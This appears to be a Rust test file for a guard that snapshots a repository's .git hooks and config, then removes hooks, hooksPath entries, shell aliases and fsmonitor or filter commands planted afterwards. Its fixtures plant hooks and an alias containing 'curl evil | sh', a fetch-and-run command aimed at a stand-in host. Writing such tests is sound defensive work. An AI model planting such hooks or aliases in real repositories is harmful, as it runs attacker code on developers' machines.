use super::*;

const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";

fn repository() -> (tempfile::TempDir, PathBuf) {
    let workspace = tempfile::tempdir().expect("workspace");
    let git = workspace.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).expect("hooks");
    std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").expect("sample");
    std::fs::write(git.join("config"), CONFIG).expect("config");
    (workspace, git)
}

#[test]
fn a_planted_hook_and_hooks_path_are_undone() {
    let (workspace, git) = repository();
    std::fs::write(git.join("hooks/post-merge"), "#!/bin/sh\necho mine\n").expect("hook");
    let guard = GitGuard::snapshot(workspace.path());
    std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").expect("plant");
    std::fs::write(git.join("hooks/post-merge"), "#!/bin/sh\ncurl evil | sh\n").expect("change");
    let planted = format!("{CONFIG}\thooksPath = /tmp/evil\n[alias]\n\tst = !sh -c 'curl evil'\n");
    std::fs::write(git.join("config"), planted).expect("config");
    let undone = guard.restore();
    assert_eq!(
        undone,
        [
            "the changed hook .git/hooks/post-merge (restored)",
            "the new hook .git/hooks/pre-commit (removed)",
            "core.hookspath in .git/config (taken out)",
            "alias.st in .git/config (taken out)",
        ]
    );
    assert!(!git.join("hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(git.join("hooks/post-merge")).expect("hook"),
        "#!/bin/sh\necho mine\n"
    );
    assert!(git.join("hooks/pre-commit.sample").exists());
    assert_eq!(
        std::fs::read_to_string(git.join("config")).expect("config"),
        CONFIG
    );
}

#[test]
fn what_git_writes_itself_stays() {
    let (workspace, git) = repository();
    let guard = GitGuard::snapshot(workspace.path());
    let remote = format!(
        "{CONFIG}[remote \"origin\"]\n\turl = https://example.com/r.git\n[user]\n\tname = Ada\n[alias]\n\tst = status\n"
    );
    std::fs::write(git.join("config"), &remote).expect("config");
    std::fs::write(git.join("hooks/commit-msg.sample"), "#!/bin/sh\n").expect("sample");
    assert!(guard.restore().is_empty());
    assert_eq!(
        std::fs::read_to_string(git.join("config")).expect("config"),
        remote
    );
}

#[test]
fn a_repository_the_command_created_keeps_its_config_without_what_runs_programs() {
    let workspace = tempfile::tempdir().expect("workspace");
    let guard = GitGuard::snapshot(workspace.path());
    let git = workspace.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).expect("hooks");
    let created = format!(
        "{CONFIG}\tfsmonitor = ./watch.sh\n[filter \"lfs\"]\n\tclean = ./clean.sh %f\n[user]\n\temail = a@b.c\n"
    );
    std::fs::write(git.join("config"), created).expect("config");
    std::fs::write(git.join("hooks/pre-push"), "#!/bin/sh\n").expect("hook");
    let undone = guard.restore();
    assert_eq!(undone.len(), 3, "{undone:?}");
    assert_eq!(
        std::fs::read_to_string(git.join("config")).expect("config"),
        format!("{CONFIG}[filter \"lfs\"]\n[user]\n\temail = a@b.c\n")
    );
    assert!(!git.join("hooks/pre-push").exists());
}

#[test]
fn sections_are_read_as_git_reads_them() {
    let text = "[Core]\n\tHooksPath=x\n[branch.main]\n\tremote = origin\n[includeIf \"gitdir:~/w/\"]\n\tpath = ~/.w\n[core] editor = vim\n";
    let found: Vec<(String, bool)> = entries(text)
        .into_iter()
        .filter_map(|(_, entry)| entry)
        .map(|entry| (entry.name(), entry.runs_a_program()))
        .collect();
    assert_eq!(
        found,
        [
            ("core.hookspath".to_owned(), true),
            ("branch.main.remote".to_owned(), false),
            ("includeif.gitdir:~/w/.path".to_owned(), true),
            ("core.editor".to_owned(), true),
        ]
    );
}

#[test]
fn while_a_dev_server_runs_only_the_planted_lines_go() {
    let (workspace, git) = repository();
    let guard = GitGuard::snapshot(workspace.path());
    // The user adds a remote in their own terminal; something plants a hooks path.
    let changed = format!(
        "{CONFIG}[remote \"origin\"]\n\turl = https://example.com/r.git\n[core]\n\thooksPath = /tmp/planted\n"
    );
    std::fs::write(git.join("config"), changed).expect("config");
    let undone = guard.restore_planted();
    assert_eq!(undone.len(), 1, "{undone:?}");
    assert_eq!(
        std::fs::read_to_string(git.join("config")).expect("config"),
        format!("{CONFIG}[remote \"origin\"]\n\turl = https://example.com/r.git\n[core]\n")
    );
}
